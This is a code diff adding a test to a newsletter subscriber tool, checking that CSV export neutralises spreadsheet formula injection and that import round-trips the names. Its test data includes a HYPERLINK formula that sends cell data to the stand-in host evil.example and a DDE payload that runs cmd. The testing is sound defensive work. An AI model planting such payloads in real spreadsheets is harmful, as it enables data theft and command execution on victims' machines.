@@ -1,5 +1,6 @@
 import { readFile, writeFile } from 'node:fs/promises';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { DynamoSuppressionStore } from '../../../functions/adapters/dynamodb/subscriber-store.js';
 import { loadOrCreateTokenKey } from '../../../functions/adapters/local/token-key.js';
@@ -196,6 +197,24 @@ describe('newsletter subscribers list and export', () => {
     expect(again.code).toBe(0);
     expect(again.output).toContain('Imported 0 new, updated 0');
     expect(again.output).toContain('skipped 1 who left (1 unsubscribed');
+  });
+
+  it('exports names that a spreadsheet would run as formulas with a quote in front, and imports them back as they were', async () => {
+    const names = { 'hyperlink@example.com': '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', 'dde@example.com': '+cmd|" /C calc"!A0', 'minus@example.com': '-2+3', 'at@example.com': '@SUM(A1:A9)' };
+    for (const [email, name] of Object.entries(names)) expect((await ws.run('subscribers', 'add', email, `--name=${name}`)).code).toBe(0);
+    const file = path.join(ws.work, 'formulas.csv');
+    expect((await ws.run('subscribers', 'export', file)).code).toBe(0);
+    const text = await readFile(file, 'utf8');
+    expect(text).toContain(`hyperlink@example.com,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",confirmed,`);
+    expect(text).toContain(`minus@example.com,'-2+3,confirmed,`);
+    // No cell of the file starts a formula.
+    for (const row of parse(text) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const again = await ws.run('subscribers', 'import', file);
+    expect(again.code).toBe(0);
+    expect(again.output).toContain('Imported 0 new, updated 0');
+    const people = await listed();
+    for (const [email, name] of Object.entries(names)) expect(people.find((p) => p.email === email)?.name).toBe(name);
   });
 });
 
